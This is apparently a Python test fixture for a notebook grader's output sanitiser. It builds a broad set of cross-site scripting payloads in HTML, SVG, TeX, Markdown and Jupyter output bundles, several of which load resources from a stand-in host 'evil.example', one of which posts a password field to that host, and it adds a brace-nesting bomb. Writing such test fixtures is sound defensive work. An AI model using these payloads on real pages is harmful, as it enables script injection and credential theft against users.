"""What a student may write so that a page runs a program or asks a host, each in its own way."""

import base64
from typing import Any

HOST = "http://evil.example"
RUN = "window.hacked=1;alert(1)"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
_DRAWING = base64.b64encode((_SVG + "</svg>").encode()).decode()
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

HTML = [
    f"<script>{RUN}</script>",
    f'<script src="{HOST}/a.js"></script>',
    f'<img src="{HOST}/a.png" onerror="{RUN}">',
    f'<img src=x onerror="{RUN}" srcset="{HOST}/b.png 2x">',
    f'<b onmouseover="{RUN}" style="background:url({HOST}/c.png)">over</b>',
    f'<style>@import "{HOST}/d.css"; body {{ background: url({HOST}/e.png) }}</style>',
    f'<link rel="stylesheet" href="{HOST}/f.css"><link rel="prefetch" href="{HOST}/g">',
    f'<base href="{HOST}/"><meta http-equiv="refresh" content="0;url={HOST}/h">',
    f'<iframe src="{HOST}/i"></iframe><iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    f'<object data="{HOST}/j"></object><embed src="{HOST}/k">',
    f'<form action="{HOST}/l"><input name=password autofocus onfocus="{RUN}"></form>',
    f'<a href="javascript:{RUN}">link</a><a href="java&#9;script:{RUN}">link</a>',
    f'<a href="data:text/html;base64,{_PAGE}">link</a><a ping="{HOST}/m" href="#x">link</a>',
    f"{_SVG}<image href='{HOST}/n.png'/><use href='{HOST}/o.svg#a'/></svg>",
    f'<img src="data:image/svg+xml;base64,{_DRAWING}">',
    f'<math><mtext></form><mglyph><style></math><img src=x onerror="{RUN}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math href="javascript:{RUN}"><maction xlink:href="{HOST}">x</maction></math>',
    f'<video src="{HOST}/p" autoplay onerror="{RUN}"></video><audio src="{HOST}/q"></audio>',
    f'<details open ontoggle="{RUN}"><summary>a</summary></details>',
    f'<input type=image src="{HOST}/r"><button formaction="javascript:{RUN}">x</button>',
    f'<template><script>{RUN}</script></template><body background="{HOST}/s" onload="{RUN}">',
    f"</pre></code></div></article></main></body><script>{RUN}</script>",
    f"--><script>{RUN}</script><![CDATA[<script>{RUN}</script>]]></style><script>{RUN}</script>",
]
TEX = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\text{{<script>{RUN}</script>}}$",
    rf"$$\includegraphics{{{HOST}/t.png}}$$",
    rf"\begin{{align}}<img src=x onerror='{RUN}'>\end{{align}}",
    "$$" + "{" * 900,
]
MARKDOWN = "\n\n".join(
    [
        *HTML,
        *TEX,
        f"![picture]({HOST}/u.png) [link](javascript:{RUN}) <{HOST}/v>",
        "![gone](attachment:gone.png) ![attached](attachment:a.svg) ![raster](attachment:b.png)",
        f"```html\n<script>{RUN}</script>\n```",
        f"| a |\n|---|\n| <script>{RUN}</script> |",
        f"# <script>{RUN}</script>",
    ]
)
ATTACHMENTS = {
    "a.svg": {"image/svg+xml": _DRAWING},
    "b.png": {"image/png": f'x"onerror="{RUN}'},
}
WIDGET = {"application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2}}


def displays() -> list[dict[str, Any]]:
    """Outputs as a grader that keeps them all would record them."""
    bundles: list[dict[str, Any]] = [
        *({"text/html": html} for html in HTML),
        *({"text/latex": tex} for tex in [*TEX, *HTML]),
        {"text/markdown": MARKDOWN},
        {"image/svg+xml": _SVG + "</svg>"},
        {"application/javascript": RUN, "text/plain": f"<script>{RUN}</script>"},
        {"image/png": f'x" onerror="{RUN}'},
        {f"<script>{RUN}</script>": "x"},
        WIDGET,
    ]
    text = f"\x1b[31m</pre><script>{RUN}</script>"
    return [
        *({"output_type": "display_data", "metadata": {}, "data": data} for data in bundles),
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
    ]
